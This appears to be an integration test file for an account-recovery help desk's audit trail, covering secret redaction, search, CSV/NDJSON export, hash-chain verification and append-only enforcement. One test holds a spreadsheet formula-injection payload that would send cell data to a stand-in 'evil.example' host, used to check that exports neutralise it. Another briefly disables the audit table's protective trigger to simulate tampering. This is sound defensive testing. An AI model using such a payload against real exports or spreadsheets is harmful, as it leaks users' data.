import { AUDIT_ACTIONS, type AuditEvent } from "@recovery-desk/shared";
import { eq, sql } from "drizzle-orm";
import postgres from "postgres";
import { afterAll, beforeAll, describe, expect, inject, it, onTestFinished } from "vitest";
import { eventHash } from "../../audit/canonical.ts";
import { notices, outbox } from "../../db/schema/index.ts";
import { DAY } from "../../lib/clock.ts";
import { NOTICE_SENDING, sendDueNotices } from "../../notify/notice-deliverer.ts";
import { DeliveryError } from "../../notify/notifier.ts";
import { accountByUsername } from "../../test/accounts.ts";
import { allEvents } from "../../test/audit.ts";
import { answerOf, createTestContext, type TestContext } from "../../test/context.ts";
import { csvValues, parseCsv } from "../../test/csv.ts";
import { createKey } from "../../test/hostile/callers.ts";
import { verifyByCode, verifyByQuestions } from "../../test/verify.ts";
import { runInactivitySweep } from "../sweep/inactivity-sweep.ts";

let t: TestContext;
let sam: string;
let ava: string;
let maria: string;
const secrets: string[] = [
  "Biscuit",
  "San Antonio",
  "Schmidt",
  "Volkswagen",
  "Mrs. Park",
  "Oak Avenue",
  "helpdesk-demo",
];

/** The actions the day below does not take; merges and webhooks have their own tests. */
const OUTSIDE_THE_DAY = new Set<string>([
  "account.created",
  "account.updated",
  "verification.locked",
  "account.temporary_password_used",
]);

/** A full day on the desk: every kind of action the product has so far. */
beforeAll(async () => {
  t = await createTestContext();
  ava = await t.signIn("ava.agent");
  sam = await t.signIn("sam.supervisor");
  const admin = await t.signIn("ada.admin");
  await t.request("/api/v1/auth/login", { body: { username: "ava.agent", password: "wrong-password-1" } });
  secrets.push("wrong-password-1");
  maria = (await accountByUsername(t.database.db, "maria.lopez")).id;
  const tom = (await accountByUsername(t.database.db, "tom.becker")).id;
  const kim = (await accountByUsername(t.database.db, "kim.nguyen")).id;

  const failed = await t.api(ava).accounts[":id"].verifications.$post({
    param: { id: maria },
    json: { method: "security_questions", caseRef: "CASE-42" },
  });
  const v = await answerOf(failed, 201);
  await t.api(ava).verifications[":id"].answers.$post({
    param: { id: v.id },
    json: { answers: (v.questions ?? []).map((q) => ({ questionId: q.id, answer: "Rexington" })) },
  });
  secrets.push("Rexington");
  await verifyByQuestions(t, ava, maria, ["biscuit", "san antonio"], "CASE-42");
  await t.request(`/api/v1/accounts/${maria}`, { cookie: ava });
  await t.request(`/api/v1/accounts/${maria}/unlock`, {
    cookie: ava,
    body: { reason: "Verified caller, locked after travel", caseRef: "CASE-42" },
  });
  await verifyByCode(t, ava, tom, "otp_email", "tom.becker@example.com", "CASE-43");
  await t.request(`/api/v1/accounts/${tom}/reactivate`, { cookie: ava, body: { reason: "Back from abroad" } });
  await t.request(`/api/v1/accounts/${tom}/username-reminder`, { cookie: ava, body: { reason: "Forgot username" } });
  await verifyByCode(t, ava, kim, "otp_sms", "+15035550178", "CASE-44");
  await verifyByQuestions(t, ava, kim, ["Mrs. Park", "Oak Avenue"], "CASE-44");
  await t.request(`/api/v1/accounts/${kim}/temporary-password`, {
    cookie: ava,
    body: { channel: "sms", reason: "Forgot password" },
  });
  // Kim did not ask for that password: she reports it from the link in its notice.
  const [notice] = await t.database.db.select().from(notices).where(eq(notices.accountId, kim)).limit(1);
  const token = /\/report\/([A-Za-z0-9_-]+)/.exec(notice?.body ?? "")?.[1] ?? "";
  expect((await t.request("/api/v1/reports", { body: { token, note: "Not me" } })).status).toBe(202);
  // The gateways are down for good: the owners' notices are given up on, and that is recorded.
  const down = () => Promise.reject(new DeliveryError("email", "the gateway answered 503"));
  await sendDueNotices({ ...t.deps, notifier: { send: down } }, { ...NOTICE_SENDING, maxAttempts: 1 });
  // A supervisor acknowledges the alert Kim's report raised.
  const [alert] = (await answerOf(await t.api(sam).alerts.$get({ query: { status: "open" } }), 200)).items;
  await t.request(`/api/v1/alerts/${alert?.id}/acknowledge`, { cookie: sam, body: { note: "Called Kim back" } });
  for (const message of await t.database.db.select().from(outbox)) {
    const secret = /\b(\d{6})\b/.exec(message.body)?.[1] ?? /password is (\S+)/.exec(message.body)?.[1];
    if (secret) secrets.push(secret);
  }
  const staffRes = await t.api(admin).staff.$post({
    json: { username: "new.agent", displayName: "New Agent", role: "agent" },
  });
  const created = await answerOf(staffRes, 201);
  secrets.push(created.initialPassword);
  await t.request(`/api/v1/staff/${created.staff.id}`, {
    method: "PATCH",
    cookie: admin,
    body: { role: "supervisor" },
  });
  const key = await createKey(t, admin, "Login service", ["login-events:write", "audit:read"]);
  secrets.push(key.key);
  for (let i = 0; i < 5; i++) {
    await t.request("/api/v1/login-events", {
      headers: { authorization: `Bearer ${key.key}` },
      body: { username: "ana.silva", outcome: "failure" },
    });
  }
  const spare = await createKey(t, admin, "Spare", ["audit:read"]);
  secrets.push(spare.key);
  await t.request(`/api/v1/api-keys/${spare.id}`, { method: "DELETE", cookie: admin });
  t.clock.advance(4 * 365 * DAY);
  await runInactivitySweep(t.deps, { batchSize: 50 });
  t.clock.advance(-4 * 365 * DAY);
  await t.request("/api/v1/auth/logout", { method: "POST", cookie: admin });
  sam = await t.signIn("sam.supervisor");
  ava = await t.signIn("ava.agent");
});
afterAll(() => t.close());

type AuditQuery = Parameters<ReturnType<TestContext["api"]>["audit-events"]["$get"]>[0]["query"];
const list = async (query: AuditQuery, cookie = sam) =>
  answerOf(await t.api(cookie)["audit-events"].$get({ query }), 200);
const verifyChain = async (query: { fromSeq?: string } = {}) =>
  answerOf(await t.api(sam).audit.verify.$get({ query }), 200);
const chainState = async () => answerOf(await t.api(sam).audit.state.$get(), 200);

describe("the audit trail after a full day", () => {
  it("has every kind of action, each with its actor, and recoveries with reason and case", async () => {
    const events = await allEvents(t.database.db);
    const actions = new Set(events.map((e) => e.action));
    for (const action of AUDIT_ACTIONS.filter((a) => !/^(merge|webhook)\./.test(a) && !OUTSIDE_THE_DAY.has(a))) {
      expect(actions, action).toContain(action);
    }
    for (const e of events) expect(e.actorName, `${e.seq} ${e.action}`).toBeTruthy();
    const unlock = events.find((e) => e.action === "account.unlocked" && e.accountId === maria);
    expect(unlock).toMatchObject({
      actorType: "staff",
      actorName: "ava.agent",
      reason: "Verified caller, locked after travel",
      caseRef: "CASE-42",
    });
  });

  it("holds no secret anywhere: answers, codes, passwords, keys", async () => {
    // Hashes and random ids are left out: a six-digit code could appear in hex by chance.
    const rows = await t.database.db.execute(
      sql`select (to_jsonb(e) - 'hash' - 'prev_hash' - 'id' - 'request_id')::text as row from audit_events e`,
    );
    const text = JSON.stringify(rows).toLowerCase();
    for (const secret of secrets) expect(text, secret).not.toContain(secret.toLowerCase());
  });
});

describe("searching the trail", () => {
  it("filters to one account, newest first, with agent, reason and case", async () => {
    const page = await list({ accountId: maria, limit: "200" });
    expect(page.items.every((e) => e.accountId === maria)).toBe(true);
    const actions = page.items.map((e) => e.action);
    expect(actions).toEqual(
      expect.arrayContaining(["verification.failed", "verification.succeeded", "account.unlocked"]),
    );
    expect(page.items.map((e) => e.seq)).toEqual([...page.items.map((e) => e.seq)].sort((a, b) => b - a));
  });

  it.each([
    ["action", { action: "account.unlocked" }, (e: AuditEvent) => e.action === "account.unlocked"],
    ["case", { caseRef: "CASE-42" }, (e: AuditEvent) => e.caseRef === "CASE-42"],
    ["free text in the reason", { q: "after travel" }, (e: AuditEvent) => (e.reason ?? "").includes("after travel")],
    ["free text in the details", { q: "sms" }, (e: AuditEvent) => JSON.stringify(e.details).includes("sms")],
  ])("filters by %s", async (_label, params, match) => {
    const page = await list({ ...params, limit: "200" });
    expect(page.items.length).toBeGreaterThan(0);
    expect(page.items.every(match)).toBe(true);
  });

  it("filters by actor and by time range", async () => {
    const first = (await list({ action: "account.unlocked" })).items[0] as AuditEvent;
    const byActor = await list({ actorId: first.actor.id ?? "", limit: "200" });
    expect(byActor.items.every((e) => e.actor.id === first.actor.id)).toBe(true);
    const at = new Date(first.occurredAt);
    const window = await list({
      from: new Date(at.getTime() - 1).toISOString(),
      to: new Date(at.getTime() + 1).toISOString(),
      limit: "200",
    });
    expect(window.items.length).toBeGreaterThan(0);
    expect(window.items.every((e) => Math.abs(new Date(e.occurredAt).getTime() - at.getTime()) <= 1)).toBe(true);
    expect((await list({ from: "2099-01-01T00:00:00.000Z" })).items).toEqual([]);
  });

  it("pages by keyset without repeats or gaps", async () => {
    const whole = (await list({ limit: "200" })).items.map((e) => e.seq);
    const paged: number[] = [];
    let cursor: string | null = null;
    do {
      const page: Awaited<ReturnType<typeof list>> = await list({ limit: "7", ...(cursor ? { cursor } : {}) });
      paged.push(...page.items.map((e) => e.seq));
      cursor = page.nextCursor;
    } while (cursor && paged.length < whole.length);
    expect(paged.slice(0, whole.length)).toEqual(whole);
  });
});

/** Recomputes every row's hash from its CSV values, as an auditor outside the product would. */
function expectHashesRecomputable(rows: string[][]) {
  for (const r of rows) {
    const [
      seq,
      id,
      occurredAt,
      actorType,
      actorId,
      actorName,
      action,
      accountId,
      caseRef,
      reason,
      requestId,
      ip,
      details,
      prevHash,
      hash,
    ] = r as string[];
    const blank = (v: string | undefined) => (v === "" || v === undefined ? null : v);
    const recomputed = eventHash({
      seq: Number(seq),
      id: id as string,
      occurredAt: new Date(occurredAt as string),
      actorType: actorType as string,
      actorId: blank(actorId),
      actorName: actorName as string,
      action: action as string,
      accountId: blank(accountId),
      caseRef: blank(caseRef),
      reason: blank(reason),
      requestId: blank(requestId),
      ip: blank(ip),
      details: JSON.parse(details as string),
      prevHash: prevHash as string,
    });
    expect(recomputed, `event ${seq}`).toBe(hash);
  }
}

describe("exporting the trail", () => {
  it("streams CSV that an auditor can re-verify outside the product", async () => {
    const res = await t.request(`/api/v1/audit-events/export?format=csv&accountId=${maria}`, { cookie: sam });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/text\/csv/);
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="audit-.*\.csv"/);
    const [header, ...rows] = csvValues(await res.text());
    // The published column list, written out: an auditor's tools read these names.
    expect(header).toEqual([
      "seq",
      "id",
      "occurred_at",
      "actor_type",
      "actor_id",
      "actor_name",
      "action",
      "account_id",
      "case_ref",
      "reason",
      "request_id",
      "ip",
      "details",
      "prev_hash",
      "hash",
    ]);
    expect(rows.length).toBe((await list({ accountId: maria, limit: "200" })).items.length);
    expectHashesRecomputable(rows);
  });

  it("writes no cell a spreadsheet would run as a formula, and the hashes still verify", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const usernames = ["=1+2", "+1+2", "-1+2", "@SUM(1;2)", "'quoted"];
    for (const username of usernames) {
      const res = await t.request("/api/v1/auth/login", { body: { username, password: "wrong-password-2" } });
      expect(res.status).toBe(401);
    }
    // Maria was deactivated by the sweep; her reactivation carries the formula as its reason.
    await verifyByCode(t, ava, maria, "otp_email", "maria.lopez@example.com", "CASE-45");
    const reactivated = await t.request(`/api/v1/accounts/${maria}/reactivate`, {
      cookie: ava,
      body: { reason: formula },
    });
    expect(reactivated.status).toBe(200);

    const text = await (await t.request("/api/v1/audit-events/export?format=csv", { cookie: sam })).text();
    // The formula's own quotes are doubled inside a quoted cell, after the `'` that makes it text.
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`);
    const [, ...cells] = parseCsv(text);
    const named = (name: string) => cells.filter((row) => row[5] === name);
    expect(usernames.map((name) => named(`'${name}`).length)).toEqual(usernames.map(() => 1));
    expect(cells.filter((row) => row[9] === `'${formula}`)).toHaveLength(1);
    for (const row of cells) {
      for (const cell of row) expect(cell, `event ${row[0]}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    const [, ...rows] = csvValues(text);
    expect(rows.length).toBe((await allEvents(t.database.db)).length);
    expectHashesRecomputable(rows);

    // NDJSON carries the values exactly as stored.
    const ndjson = (await (await t.request("/api/v1/audit-events/export?format=ndjson", { cookie: sam })).text())
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as AuditEvent);
    expect(ndjson.filter((e) => e.reason === formula)).toHaveLength(1);
    for (const name of usernames) {
      const byName = ndjson.filter((e) => e.actor.name === name);
      expect(byName, name).toHaveLength(1);
    }
  });

  it("streams NDJSON equal to the listing", async () => {
    const res = await t.request("/api/v1/audit-events/export?format=ndjson&action=account.unlocked", { cookie: sam });
    const lines = (await res.text())
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    // The listing adds the account's username; the export carries the stored event only.
    const listed = (await list({ action: "account.unlocked", limit: "200" })).items;
    expect(lines).toEqual(listed.map(({ account: _account, ...event }) => event));
  });

  it("exports every event when unfiltered, past any page size", async () => {
    const res = await t.request("/api/v1/audit-events/export?format=ndjson", { cookie: sam });
    const lines = (await res.text()).trim().split("\n");
    expect(lines.length).toBe((await allEvents(t.database.db)).length);
  });
});

describe("checking the chain", () => {
  it("says intact, records the check as a checkpoint, and shows the state", async () => {
    const check = await verifyChain();
    const events = await allEvents(t.database.db);
    expect(check).toEqual({ ok: true, checked: events.length, headSeq: events.length, headHash: events.at(-1)?.hash });
    const state = await chainState();
    expect(state).toMatchObject({
      headSeq: events.length,
      lastCheck: { ok: true, fromSeq: 1, by: "sam.supervisor" },
      lastCheckpoint: { seq: events.length, hash: events.at(-1)?.hash },
    });
  });

  it("names the first event changed behind the database's back", async () => {
    const events = await allEvents(t.database.db);
    const target = events[5] as (typeof events)[number];
    const setReason = (reason: string | null) =>
      t.database.db.transaction(async (tx) => {
        await tx.execute(sql`alter table audit_events disable trigger audit_events_no_update_delete`);
        await tx.execute(sql`update audit_events set reason = ${reason} where seq = ${target.seq}`);
        await tx.execute(sql`alter table audit_events enable trigger audit_events_no_update_delete`);
      });
    await setReason("nothing to see");
    // The other tests of this file share the day's trail: it is put back as it was afterwards.
    onTestFinished(() => setReason(target.reason));
    const check = await verifyChain();
    expect(check).toMatchObject({ ok: false, firstBadSeq: target.seq });
    const state = await chainState();
    expect(state.lastCheck).toMatchObject({ ok: false, firstBadSeq: target.seq });
    const ranged = await verifyChain({ fromSeq: String(target.seq + 1) });
    expect(ranged.ok).toBe(true);
  });

  it("is for supervisors and audit keys only", async () => {
    for (const path of [
      "/api/v1/audit-events",
      "/api/v1/audit-events/export?format=csv",
      "/api/v1/audit/verify",
      "/api/v1/audit/state",
    ]) {
      const res = await t.request(path, { cookie: ava });
      expect(res.status, path).toBe(403);
    }
  });
});

describe("append-only for the application's database role", () => {
  it.runIf(inject("testDatabase").kind === "postgres")(
    "refuses UPDATE, DELETE and TRUNCATE by privilege as well as by trigger",
    async () => {
      const source = inject("testDatabase");
      if (source.kind !== "postgres") return;
      const [{ db_name }] = (await t.database.db.execute(sql`select current_database() as db_name`)) as unknown as [
        { db_name: string },
      ];
      const admin = postgres(source.adminUrl.replace(/\/[^/]*$/, `/${db_name}`), { max: 1, onnotice: () => {} });
      try {
        await admin.unsafe(
          `do $$ begin if not exists (select from pg_roles where rolname = 'rd_app') then create role rd_app login; end if; end $$`,
        );
        await admin.unsafe(
          "grant usage on schema public to rd_app; grant select, insert on all tables in schema public to rd_app",
        );
        const app = postgres(source.adminUrl.replace("postgres@", "rd_app@").replace(/\/[^/]*$/, `/${db_name}`), {
          max: 1,
          onnotice: () => {},
        });
        try {
          for (const statement of [
            "update audit_events set reason = 'x'",
            "delete from audit_events",
            "truncate audit_events",
          ]) {
            await expect(app.unsafe(statement), statement).rejects.toThrow(/permission denied/);
          }
          const [row] = await app.unsafe("select count(*)::int as n from audit_events");
          expect(row?.n).toBeGreaterThan(0);
        } finally {
          await app.end();
        }
      } finally {
        await admin.end();
      }
    },
  );
});
